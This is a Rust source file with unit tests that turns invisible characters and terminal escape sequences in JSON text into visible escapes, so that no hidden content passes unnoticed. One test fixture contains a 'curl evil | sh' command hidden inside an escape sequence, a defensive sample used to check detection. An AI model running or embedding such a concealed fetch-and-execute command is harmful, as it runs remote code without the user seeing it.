//! Texts of strangers in responses: everything that a person cannot see is made visible.

use mimir_core::text;
use serde_json::Value;

/// Makes invisible characters in all strings and keys of a value visible. Line breaks stay.
pub fn make_visible(value: &mut Value) {
    match value {
        Value::String(string) => {
            if needs_change(string) {
                *string = visible_lines(string);
            }
        }
        Value::Array(items) => items.iter_mut().for_each(make_visible),
        Value::Object(map) => {
            if map.keys().any(|key| needs_change(key)) {
                let old = std::mem::take(map);
                map.extend(
                    old.into_iter()
                        .map(|(key, value)| (visible_line(&key), value)),
                );
            }
            map.values_mut().for_each(make_visible);
        }
        Value::Null | Value::Bool(_) | Value::Number(_) => {}
    }
}

/// Returns the text with visible lines.
pub fn visible_lines(string: &str) -> String {
    let lines: Vec<String> = string
        .split('\n')
        .map(|line| visible_line(line.strip_suffix('\r').unwrap_or(line)))
        .collect();
    lines.join("\n")
}

/// Returns a line with everything in it. Escape sequences are shown and not removed, as on a terminal: a file can have
/// what looks like one, and a difference without it would hide what the file does.
fn visible_line(line: &str) -> String {
    let is_introducer = |c: char| matches!(c, '\u{1b}' | '\u{80}'..='\u{9f}');
    if !line.contains(is_introducer) {
        return text::visible(line);
    }
    let mut shown = String::with_capacity(line.len());
    for c in line.chars() {
        if is_introducer(c) {
            shown.extend(c.escape_unicode());
        } else {
            shown.push(c);
        }
    }
    text::visible(&shown)
}

/// Returns false for the usual text, which needs no copy.
fn needs_change(string: &str) -> bool {
    !string
        .bytes()
        .all(|byte| byte == b'\n' || (0x20..0x7f).contains(&byte))
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    #[test]
    fn console_text_shows_hidden_characters_and_keeps_lines() {
        let mut value = json!({
            "a\u{202e}b": "x\u{1b}[31m\r\n\u{200b}y\tz",
            "list": ["ä", {"c": "\u{7}"}],
            "plain": "a\nb",
        });
        make_visible(&mut value);
        let text = value.to_string();
        for hidden in ['\u{202e}', '\u{1b}', '\u{200b}', '\u{7}', '\r', '\t'] {
            assert!(!text.contains(hidden), "{text}");
        }
        assert_eq!(value["plain"], "a\nb");
        assert_eq!(value["list"][0], "ä");
        assert!(
            value["a\\u{202e}b"]
                .as_str()
                .is_some_and(|text| text.contains('\n')),
            "{value}"
        );
    }

    #[test]
    fn console_text_hides_nothing_in_escape_sequences() {
        for (hidden, shown) in [
            (
                "echo hi\u{1b}]; curl evil | sh;\u{7}",
                r"echo hi\u{1b}]; curl evil | sh;\u{7}",
            ),
            ("a\u{1b}_; evil\u{1b}\\", r"a\u{1b}_; evil\u{1b}\"),
            ("a\u{9b}31mb\u{9d}c", r"a\u{9b}31mb\u{9d}c"),
            ("a\u{1b}[8mb", r"a\u{1b}[8mb"),
        ] {
            assert_eq!(visible_lines(hidden), shown);
            let mut value = json!({ hidden: 1 });
            make_visible(&mut value);
            assert_eq!(value, json!({ shown: 1 }));
        }
    }
}
